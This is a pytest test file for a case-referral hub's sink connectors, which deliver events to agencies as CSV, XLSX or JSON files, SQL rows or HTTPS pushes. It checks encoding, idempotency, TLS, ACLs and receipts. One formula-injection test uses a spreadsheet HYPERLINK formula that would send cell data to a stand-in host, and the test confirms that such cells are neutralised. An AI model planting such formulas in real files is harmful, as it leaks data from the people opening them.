"""Sink targets and configs without a broker: what lands in the unit's system, once."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sqlite3
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from connectors.cli import app
from connectors.config import HttpAuth
from connectors.runner import dlq_topic
from connectors.sinks.config import (
    FileTargetConfig,
    HttpTargetConfig,
    SinkConfig,
    SqlTargetConfig,
    is_sink_config,
    parse_sink_config,
)
from connectors.sinks.runner import receipt_for
from connectors.sinks.targets import Ack, FileTarget, HttpTarget, InboxItem, Refused, SqlTarget
from connectors.sinks.testing import ReceivingServer
from hub.errors import ConfigError, RetriableError
from hub.models import CHINA_TZ, DeliveryAcknowledged, DeliveryTargetKind
from hub.models.examples import EXAMPLE_POLICE, example_events
from hub.rules import load_entitlements
from hub.security.acl import acl_bindings, unit_principal
from hub.security.certificates import ensure_ca, ensure_certificate
from hub.topics import ingest_topic
from hub.units import UnitRegistry, load_unit_registry
from streams.case_event_meaning import summarise
from streams.entitlement_logic import CaseRelations, check_entitlement

ITEM = InboxItem("00000000-0000-5000-8000-000000000007", "cn.liangfa.events.CaseReferred",
                 {"event_id": "00000000-0000-5000-8000-000000000007", "case_id": "c-1",
                  "occurred_at": "2024-03-01T10:00:00+08:00",
                  "parties": [{"name": "𠮷祥示例商行"}], "referral_number": "示例移〔2024〕7号"})


def test_a_sink_config_lists_every_problem_with_its_yaml_path() -> None:
    with pytest.raises(ConfigError) as caught:
        parse_sink_config({"id": "x", "unit": "123", "direction": "sink", "kind": "http",
                           "target": {"url": "ftp://nowhere"}})
    problems = caught.value.problems
    assert any(p.startswith("target.url:") for p in problems)
    assert any(p.startswith("unit:") and "统一社会信用代码" in p for p in problems)
    assert any(p.startswith("id:") for p in problems)


@pytest.mark.parametrize(("url", "accepted"), [
    ("https://police-cms.example.gov.cn/api/inbox", True),
    ("http://127.0.0.1:8088/inbox", True),
    ("http://localhost/inbox", True),
    ("http://[::1]:9000", True),
    ("http://police-cms.example.gov.cn/api/inbox", False),
    ("http://localhost.example.com/inbox", False),
    ("http://127.0.0.1@cms.example.com/inbox", False),
])
def test_a_unit_endpoint_is_reached_over_tls_unless_it_is_this_host(
        url: str, accepted: bool) -> None:
    """Inbox events carry names, ID numbers and case facts, and each request the unit's
    credentials: plain HTTP is refused at start, with the reason, except to loopback."""
    config = {"id": "police-inbox", "unit": EXAMPLE_POLICE, "direction": "sink",
              "kind": "http", "target": {"url": url}}
    if accepted:
        assert parse_sink_config(config).target.url == url  # type: ignore[union-attr]
        return
    with pytest.raises(ConfigError) as caught:
        parse_sink_config(config)
    assert any(p.startswith("target.url:") and "https://" in p and "ID numbers" in p
               for p in caught.value.problems), caught.value.problems


def test_a_sink_config_is_told_from_a_source_config_and_names_its_group_by_the_unit() -> None:
    raw = {"id": "police-inbox", "unit": EXAMPLE_POLICE, "direction": "sink", "kind": "file",
           "target": {"path": "/tmp/drop", "format": "xlsx", "encoding": "gbk"}}
    config = parse_sink_config(raw)
    assert is_sink_config(raw) and not is_sink_config({"kind": "file", "source": {}})
    assert isinstance(config.target, FileTargetConfig)
    assert config.inbox == f"lf.inbox.{EXAMPLE_POLICE}"
    assert config.group_id.startswith(EXAMPLE_POLICE)  # the unit's ACL: groups by its code


@pytest.mark.parametrize("encoding", ["gbk", "utf-8"])
def test_a_csv_drop_is_written_whole_in_the_unit_encoding_and_only_once(
        tmp_path: Path, encoding: str) -> None:
    target = FileTarget(FileTargetConfig(path=tmp_path, format="csv", encoding=encoding))  # type: ignore[arg-type]
    first = asyncio.run(target.deliver(ITEM))
    second = asyncio.run(target.deliver(ITEM))
    files = sorted(p.name for p in tmp_path.iterdir())
    assert files == [f"CaseReferred-{ITEM.event_id}.csv"]  # no temporary left, one file
    assert (first.acknowledgement, second.acknowledgement) == (
        "file renamed into place", "file already present")
    data = (tmp_path / files[0]).read_bytes()
    rows = list(csv.DictReader(io.StringIO(data.decode("gb18030" if encoding == "gbk"
                                                       else "utf-8"))))
    assert rows[0]["referral_number"] == "示例移〔2024〕7号"
    assert json.loads(rows[0]["parties"]) == [{"name": "𠮷祥示例商行"}]  # beyond GBK: GB18030
    if encoding == "gbk":
        with pytest.raises(UnicodeDecodeError):
            data.decode("utf-8")


def test_an_archived_file_counts_as_delivered(tmp_path: Path) -> None:
    archive = tmp_path / "done"
    target = FileTarget(FileTargetConfig(path=tmp_path / "in", archive=archive, format="json"))
    asyncio.run(target.deliver(ITEM))
    archive.mkdir()
    name = f"CaseReferred-{ITEM.event_id}.json"
    (tmp_path / "in" / name).rename(archive / name)  # the unit's importer took it
    ack = asyncio.run(target.deliver(ITEM))
    assert ack.acknowledgement == "file already present"
    assert list((tmp_path / "in").iterdir()) == []
    assert json.loads((archive / name).read_text("utf-8"))["event_type"] == ITEM.event_type


def test_an_xlsx_drop_has_a_header_row_and_the_event(tmp_path: Path) -> None:
    target = FileTarget(FileTargetConfig(path=tmp_path, format="xlsx"))
    asyncio.run(target.deliver(ITEM))
    sheet = openpyxl.load_workbook(tmp_path / f"CaseReferred-{ITEM.event_id}.xlsx").active
    assert sheet is not None
    header, row = list(sheet.iter_rows(values_only=True))
    assert dict(zip(header, row, strict=True))["event_id"] == ITEM.event_id


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_formula_in_case_text_reaches_the_unit_as_text(tmp_path: Path,
                                                         file_format: str) -> None:
    """Text from one unit's system must not run in another unit's spreadsheet program
    (formula injection): a cell a program would read as a formula is written as text,
    and a signed number stays a number."""
    hostile = '=HYPERLINK("http://x.example/?"&A1,"点击")'
    item = InboxItem(ITEM.event_id, ITEM.event_type,
                     {**ITEM.record, "violation_facts": hostile, "fine": "-5",
                      "note": "@SUM(A1:A9)"})
    target = FileTarget(FileTargetConfig(path=tmp_path, format=file_format))  # type: ignore[arg-type]
    asyncio.run(target.deliver(item))
    path = tmp_path / f"CaseReferred-{ITEM.event_id}.{file_format}"
    if file_format == "csv":
        [row] = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
        assert row["violation_facts"] == "'" + hostile
        assert row["note"] == "'@SUM(A1:A9)" and row["fine"] == "-5"
        # A unit whose system alone reads the files gets the text unchanged.
        plain = tmp_path / "plain"
        unchanged = FileTarget(FileTargetConfig(path=plain, format="csv",  # type: ignore[arg-type]
                                                formulas_as_text=False))
        asyncio.run(unchanged.deliver(item))
        [row] = list(csv.DictReader(io.StringIO(
            (plain / path.name).read_text("utf-8"))))
        assert row["violation_facts"] == hostile
        return
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    header, cells = list(sheet.iter_rows())
    written = {name.value: cell for name, cell in zip(header, cells, strict=True)}
    assert written["violation_facts"].value == hostile
    assert written["violation_facts"].data_type == "s"
    assert not any(cell.data_type == "f" for cell in cells)


def test_a_sql_row_per_event_the_event_id_its_primary_key(tmp_path: Path) -> None:
    database = tmp_path / "unit.db"
    target = SqlTarget(SqlTargetConfig(url=f"sqlite:///{database}", table="inbox"))  # type: ignore[arg-type]
    acks = [asyncio.run(target.deliver(ITEM)) for _ in range(2)]
    asyncio.run(target.aclose())
    assert [a.acknowledgement for a in acks] == ["transaction committed", "row already present"]
    with sqlite3.connect(database) as connection:
        rows = connection.execute("select event_id, case_id, payload from inbox").fetchall()
    assert len(rows) == 1 and rows[0][:2] == (ITEM.event_id, "c-1")
    assert json.loads(rows[0][2])["referral_number"] == "示例移〔2024〕7号"


def test_http_push_retries_a_restarting_system_and_reads_its_receipt_number() -> None:
    server = ReceivingServer(fail_first=2)
    try:
        target = HttpTarget(HttpTargetConfig(url=server.url, retry_backoff_seconds=0,
                                             receipt_path="receipt_number"))
        ack = asyncio.run(target.deliver(ITEM))
        asyncio.run(target.aclose())
    finally:
        server.close()
    assert server.calls == [ITEM.event_id] * 3  # the idempotency key on every try
    assert (ack.kind, ack.acknowledgement) == (DeliveryTargetKind.HTTP, "HTTP 201")
    assert ack.receipt_number == f"R-{ITEM.event_id[:8]}"
    assert list(server.stored) == [ITEM.event_id]


def test_http_push_gives_up_on_a_down_system_and_refuses_nothing_for_it() -> None:
    server = ReceivingServer(fail_first=10)
    try:
        target = HttpTarget(HttpTargetConfig(url=server.url, max_retries=1,
                                             retry_backoff_seconds=0))
        with pytest.raises(RetriableError, match="after 2 tries"):
            asyncio.run(target.deliver(ITEM))
    finally:
        server.close()


def test_http_push_takes_a_credentials_answer_for_a_target_down_not_a_refusal() -> None:
    server = ReceivingServer(fail_first=1, fail_status=401)
    try:
        target = HttpTarget(HttpTargetConfig(url=server.url))
        with pytest.raises(RetriableError, match="HTTP 401"):
            asyncio.run(target.deliver(ITEM))
    finally:
        server.close()
    assert server.calls == [ITEM.event_id] and server.stored == {}


def test_http_push_refusal_carries_the_systems_reason() -> None:
    server = ReceivingServer(refuse=frozenset({ITEM.event_id}))
    try:
        target = HttpTarget(HttpTargetConfig(url=server.url))
        with pytest.raises(Refused) as caught:
            asyncio.run(target.deliver(ITEM))
    finally:
        server.close()
    assert caught.value.error_type == "http_422"
    assert "当事人证件号码缺失" in caught.value.reason


def test_a_receipt_is_the_same_event_for_the_same_delivery() -> None:
    config = SinkConfig(id="police-inbox", unit=EXAMPLE_POLICE, kind="sql",
                        target=SqlTargetConfig(url="sqlite://"))  # type: ignore[arg-type]
    ack = Ack(DeliveryTargetKind.SQL, "inbox", "transaction committed")
    one = receipt_for(config, ITEM, ack, "t:0:1", datetime(2024, 3, 2, tzinfo=CHINA_TZ))
    two = receipt_for(config, ITEM, ack, "t:0:9", datetime(2024, 3, 3, tzinfo=CHINA_TZ))
    assert one.event_id == two.event_id and one.case_id == "c-1"
    assert one.delivered_event_id == ITEM.event_id and one.source_unit == EXAMPLE_POLICE


def test_the_units_own_principal_may_do_all_a_sink_does_and_no_other_units_inbox() -> None:
    """No new ACL: reading the inbox, its group, receipts on its ingest prefix and the
    sink's DLQ (``liangfa acl apply --connector <sink id>=<unit>``) are what a unit has."""
    police, market = "11420999MB000007X1", "11420999MB00000114"
    registry = load_unit_registry(Path(__file__).parent / "data" / "units.yaml")
    config = SinkConfig(id="forest-inbox", unit=police, kind="file",
                        target=FileTargetConfig(path=Path("/tmp/x")))
    bindings = acl_bindings(registry, connectors={config.id: police})
    principal = unit_principal(police)

    def allowed(kind: str, name: str, operation: str) -> bool:
        return any(b.principal == principal and b.resource_type == kind
                   and b.operation == operation
                   and (b.name == name if b.pattern_type == "LITERAL"
                        else name.startswith(b.name)) for b in bindings)

    assert allowed("TOPIC", config.inbox, "READ")
    assert allowed("GROUP", config.group_id, "READ")
    assert allowed("TOPIC", ingest_topic(police, config.receipts_stream), "WRITE")
    assert allowed("TOPIC", dlq_topic(config.id), "WRITE")
    assert not allowed("TOPIC", f"lf.inbox.{market}", "READ")
    assert not allowed("GROUP", f"{market}.sink.forest-inbox", "READ")


def test_connector_validate_reads_a_sink_config_and_lists_its_problems(tmp_path: Path) -> None:
    good, bad = tmp_path / "good.yaml", tmp_path / "bad.yaml"
    good.write_text(f"id: police-inbox\nunit: {EXAMPLE_POLICE}\ndirection: sink\nkind: file\n"
                    "target: {path: drop, format: csv, encoding: gbk}\n", encoding="utf-8")
    bad.write_text(f"id: police-inbox\nunit: {EXAMPLE_POLICE}\ndirection: sink\nkind: sql\n"
                   "target: {table: 'a b'}\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["validate", str(good), str(bad)])
    assert result.exit_code == 2
    assert f"valid (file sink police-inbox, lf.inbox.{EXAMPLE_POLICE}" in result.output
    assert "target.url: Field required" in result.output
    assert "target.table:" in result.output


def test_the_receipt_reads_on_the_case_timeline_with_the_systems_receipt_number() -> None:
    receipt = example_events()[DeliveryAcknowledged.avro_name]
    line = summarise(receipt)
    assert line.startswith("送达回执 delivered into")
    assert "HTTP 201" in line and "示例公回〔2024〕3号" in line


def test_only_a_unit_the_case_was_routed_to_may_put_a_receipt_on_it() -> None:
    receipt = example_events()[DeliveryAcknowledged.avro_name]
    relations = CaseRelations(owner="11421181MB00000013", owner_proven=True,
                              addressees={receipt.source_unit})
    units = UnitRegistry([])

    def check(relations: CaseRelations) -> str | None:
        return check_entitlement(receipt, relations, rules=load_entitlements(), units=units,
                                 hub_unit_code="11421181MB00000039", matched=False).relation

    assert check(relations) == "addressee"
    assert check(CaseRelations(owner="11421181MB00000013", owner_proven=True)) is None


def test_http_push_verifies_tls_against_the_configured_ca(tmp_path: Path) -> None:
    ca = ensure_ca(tmp_path / "tls", "unit")
    issued = ensure_certificate(ca, tmp_path / "tls", "cms", common_name="police-cms",
                                server=True)
    server = ReceivingServer(tls=(issued.cert, issued.key))
    try:
        trusting = HttpTarget(HttpTargetConfig(url=server.url,
                                               auth=HttpAuth(ca_file=ca.cert)))
        ack = asyncio.run(trusting.deliver(ITEM))
        default_trust = HttpTarget(HttpTargetConfig(url=server.url, max_retries=0))
        with pytest.raises(RetriableError, match="CERTIFICATE_VERIFY_FAILED"):
            asyncio.run(default_trust.deliver(ITEM))
    finally:
        server.close()
    assert server.url.startswith("https://") and ack.acknowledgement == "HTTP 201"
    assert list(server.stored) == [ITEM.event_id]
